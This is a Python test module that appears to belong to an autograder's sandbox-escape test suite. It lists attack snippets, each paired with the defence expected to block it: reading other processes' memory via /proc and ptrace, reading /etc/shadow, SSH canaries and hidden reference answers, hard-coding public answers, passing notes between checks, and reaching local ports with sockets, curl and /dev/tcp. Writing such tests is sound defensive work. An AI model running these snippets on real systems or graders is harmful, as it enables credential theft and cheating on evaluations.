"""Attacks that look around: memory, files, inputs, the network."""

from ..submissions import HIDDEN_FILES, OUTSIDE, SPY, Attack

ATTACKS = [
    # --- 7: looking around in memory -----------------------------------------------------------
    Attack("frames", 7, "Walks the frames of its callers and takes what looks like an answer.",
           SPY, """
frame = sys._getframe()
while frame is not None:
    for name, value in list(frame.f_locals.items()) + list(frame.f_globals.items()):
        if name in ("expected", "reference", "references", "truth"):
            escaped("found " + name)
        tell(repr(value)[:10**6])
    frame = frame.f_back
"""),
    Attack("garbage collector", 7, "Searches every object of the process.", SPY, """
import gc
for value in gc.get_objects():
    if type(value) in (dict, list, tuple):
        for item in (value.values() if type(value) is dict else value):
            if type(item) in (str, bytes):
                tell(item)
    if type(value).__name__ in ("Reference", "References"):
        escaped("found the references")
""", once=True),
    Attack("own memory", 7, "Searches the whole memory that the process has inherited.", SPY, """
try:
    memory = open("/proc/self/mem", "rb")
except OSError:
    return None
for line in read("/proc/self/maps").decode().splitlines():
    span, mode, *_ = line.split()
    first, last = (int(x, 16) for x in span.split("-"))
    if "rw" in mode and ("heap" in line or line.split()[-1] == "0") and last - first < 1 << 28:
        try:
            memory.seek(first)
            tell(memory.read(last - first))
        except (OSError, ValueError, OverflowError):
            pass
"""),
    Attack("environments of all processes", 7, "Reads the environment and arguments of everybody.",
           SPY, """
for pid in processes():
    tell(read(f"/proc/{pid}/environ") + read(f"/proc/{pid}/cmdline"))
tell(repr(os.environ))
""", stopped_by=OUTSIDE),
    Attack("memory of the grader", 7, "Reads the memory of the grader, its server and a bystander.",
           SPY, """
for pid in OUTSIDERS:
    for line in read(f"/proc/{pid}/maps").decode().splitlines():
        first, last = (int(x, 16) for x in line.split()[0].split("-"))
        try:
            with open(f"/proc/{pid}/mem", "rb") as memory:
                memory.seek(first)
                if memory.read(64):
                    escaped(f"read memory of {pid}")
        except (OSError, ValueError, OverflowError):
            pass
""", stopped_by=OUTSIDE),
    Attack("system calls into the grader", 7, "ptrace, process_vm_readv and pidfd_getfd.", SPY, """
buffer = ctypes.create_string_buffer(64)
class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
here, there = Span(ctypes.addressof(buffer), 64), Span(0x400000, 64)
for pid in OUTSIDERS:
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if libc.ptrace(0x4206, pid, None, None) == 0:  # PTRACE_SEIZE
        escaped(f"traced {pid}")
    if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
        escaped(f"read {pid}")
    handle = libc.syscall(434, pid, 0)  # pidfd_open
    if handle >= 0 and any(libc.syscall(438, handle, n, 0) >= 0 for n in range(3, 20)):
        escaped(f"took a descriptor of {pid}")
""", stopped_by=("own uid", "seccomp")),
    Attack("open descriptors", 7, "Reads, rewinds and writes everything that is open.", SPY, """
for number in range(3):
    attempt(os.write, number, b"TRACE-OF-A-CHECK")
for number in range(256):
    try:
        if not stat.S_ISSOCK(os.fstat(number).st_mode):
            found = os.pread(number, 1 << 20, 0)
            tell(found)
            if b"TRACE-OF-A-CHECK" in found:
                escaped(f"descriptor {number} keeps what is written to it")
    except OSError:
        pass
"""),
    Attack("roots and folders of other processes", 7, "Enters by /proc/*/root and cwd.", SPY, """
for pid in (*OUTSIDERS, 1):
    for link in ("root", "cwd"):
        tell(read(f"/proc/{pid}/{link}{SECRETS}/hidden.json"))
        if attempt(os.listdir, f"/proc/{pid}/{link}"):
            escaped(f"listed {link} of {pid}")
""", stopped_by=OUTSIDE),
    # --- 8: reading files ----------------------------------------------------------------------
    Attack("reads hidden data", 8, "Opens the hidden references by their path.", SPY, """
for name in ("hidden.json", "open.txt", "../secrets/hidden.json", "deep/hidden.npz"):
    tell(read(os.path.join(SECRETS, name)))
try:
    names = os.listdir(SECRETS)
except OSError:
    names = []
if names:
    escaped(f"listed {names}")
""", stopped_by=HIDDEN_FILES),
    Attack("reads what root alone may read", 8, "Opens files whose mode is 0600.", SPY, """
for name in (SECRETS + "/hidden.json", SECRETS + "/deep/hidden.npz", HOME + "/.ssh/canary",
             KIT + "/autograder/assignment/references/hidden.json", "/etc/shadow"):
    if read(name):
        escaped("read " + name)
""", stopped_by=("own uid", *HIDDEN_FILES)),
    Attack("uses the solution", 8, "Runs the solution's own code.", SPY + """
source = read(KIT + "/solution/problem1/utils.py")
if source:
    exec(source)
    right = {name: globals()[name] for name in ("encode_boxes", "decode_boxes")}
""", "return right[sys._getframe(1).f_code.co_name](*args) if 'right' in globals() else None",
           stopped_by=HIDDEN_FILES),
    Attack("reads the references", 8, "Opens the stored references of the kit.", SPY, """
for tier in ("public", "hidden"):
    for kind in ("json", "npz"):
        if read(f"{KIT}/autograder/assignment/references/{tier}.{kind}"):
            escaped("read the " + tier + " references")
""", stopped_by=HIDDEN_FILES),
    Attack("imports the references", 8, "Asks the kit's own modules for the answers.", SPY, """
sys.path.append(KIT)
try:
    from autograder.assignment import ASSIGNMENT
    from autograder.engine.references import load
    load(ASSIGNMENT, "public")
except BaseException:
    return None
escaped("loaded the references")
""", stopped_by=HIDDEN_FILES),
    Attack("lists parent folders", 8, "Reads what lies above its folder.", SPY, """
here = Path.cwd().resolve()
for parent in here.parents:
    if parent == here.parent:
        continue
    try:
        names = os.listdir(parent)
    except OSError:
        continue
    for name in names:
        if name not in here.parts and (
                MARK in name or name.startswith(("hidden", "check-", "grade-", "submission-"))):
            escaped(f"saw {name} in {parent}")
        if os.path.isfile(parent / name):
            tell(read(parent / name))
""", stopped_by=("Landlock",)),
    Attack("reads other checks' folders", 8, "Follows the working folders of processes.", SPY, """
mine = Path.cwd().parent
for link in Path("/proc").glob("[0-9]*/cwd"):
    other = attempt(os.readlink, link)
    if other and Path(other).parent.parent == mine.parent and Path(other).parent != mine:
        escaped(f"found {other}")
tell(read(mine.parent / "server.log"))
""", stopped_by=OUTSIDE),
    Attack("reads the home", 8, "Looks for keys and histories in the grader's home.", SPY, """
for name in (".canary", ".ssh/canary"):
    tell(read(os.path.join(HOME, name)))
if attempt(os.listdir, HOME):
    escaped("listed the home")
""", stopped_by=("Landlock",)),
    # --- 9: inputs and state -------------------------------------------------------------------
    Attack("answers with its inputs", 9, "Changes the inputs in place and returns one of them.",
           "", "args[0].zero_(); args[1].copy_(args[0])\nreturn args[0]"),
    Attack("hard-coded answers", 9, "Knows the public answers by heart.", SPY, """
return torch.tensor(PUBLIC[total(args)]) if total(args) in PUBLIC else None
"""),
    Attack("keeps state in memory", 9, "Hopes that modules and random state last.", """
import builtins, os, sys, torch
builtins.seen = getattr(builtins, "seen", 0) + 1
os.environ["SEEN"] = os.environ.get("SEEN", "") + "x"
if builtins.seen > 1 or os.environ["SEEN"] != "x":
    raise RuntimeError("ESCAPED: state of an earlier check")
"""),
    Attack("passes notes in files", 9, "Leaves inputs of one check in files for the next one.",
           SPY, """
places = [folder + "/" + MARK + "-note" for folder in
          ("/dev/shm", "/tmp", "/var/tmp", "/run/lock", "/dev/mqueue", HOME, KIT, str(Path.cwd()),
           str(Path.cwd().parent), str(Path.cwd().parent.parent))]
for place in places:
    if os.path.exists(place):
        escaped("found a note of another check: " + read(place).decode()[:200])
for place in places:
    if attempt(Path(place).write_text, repr(args)):
        attempt(os.chmod, place, 0o666)
for number in (0, 1, 2):
    attempt(os.write, number, b"note")
""", stopped_by=OUTSIDE),
    Attack("passes notes in the kernel", 9, "Shared memory, queues and semaphores of System V.",
           SPY, """
libc.shmat.restype = ctypes.c_void_p
for make, size in ((libc.shmget, [4096]), (libc.msgget, []), (libc.semget, [1])):
    if make(0x641641, *size, 0o666) >= 0:
        escaped("found a note of another check in the kernel")
    if make(0x641641, *size, 0o1666) >= 0:
        escaped("left a note in the kernel")
if libc.mq_open(b"/" + MARK.encode(), os.O_CREAT | os.O_RDWR, 0o666, None) >= 0:
    escaped("made a message queue")
""", stopped_by=("seccomp",)),
    # --- 11: network ---------------------------------------------------------------------------
    Attack("connects", 11, "Opens a connection to a service on this machine and sends what it has.",
           SPY + """
import socket
for family, address in ((socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_INET6, ("::1", PORT))):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
        try:
            socket.socket(family, kind)
        except OSError:
            continue
        escaped(f"made a socket of {family.name}")
""", stopped_by=("seccomp",)),
    Attack("listens", 11, "Waits for somebody to connect.",
           SPY + """
import socket
if attempt(lambda: socket.create_server(("127.0.0.1", 0))):
    escaped("listens")
""", stopped_by=("seccomp",)),
    Attack("odd sockets", 11, "Netlink, packets, vsock, pairs, and families that need casts.",
           SPY + """
for family in [*range(0, 1), *range(2, 46), 0x100000001, 0x100000002, -1]:
    for call in (41, 53):  # socket, socketpair on x86-64
        if os.uname().machine == "x86_64":
            pair = (ctypes.c_int * 2)()
            if libc.syscall(call, ctypes.c_long(family), 1, 0, ctypes.byref(pair)) >= 0:
                escaped(f"made a socket of family {family}")
""", stopped_by=("seccomp",)),
    Attack("libraries that connect", 11, "urllib, a shell, and programs of the system.",
           SPY + """
import urllib.request
address = f"http://127.0.0.1:{PORT}/" + MARK
if attempt(urllib.request.urlopen, address, None, 2):
    escaped("fetched a page")
for command in (["bash", "-c", f"echo {MARK} > /dev/tcp/127.0.0.1/{PORT}"],
                ["curl", "-s", "-m", "2", address]):
    attempt(lambda: subprocess.run(command, timeout=5, capture_output=True))
""", stopped_by=("seccomp",)),
    Attack("connects to a local socket", 11, "Reaches a service by an abstract name.",
           SPY + """
import socket
with socket.socket(socket.AF_UNIX) as connection:
    if attempt(connection.connect, "\\0" + MARK):
        escaped("connected to an abstract socket")
""", stopped_by=("Landlock 6",)),
]
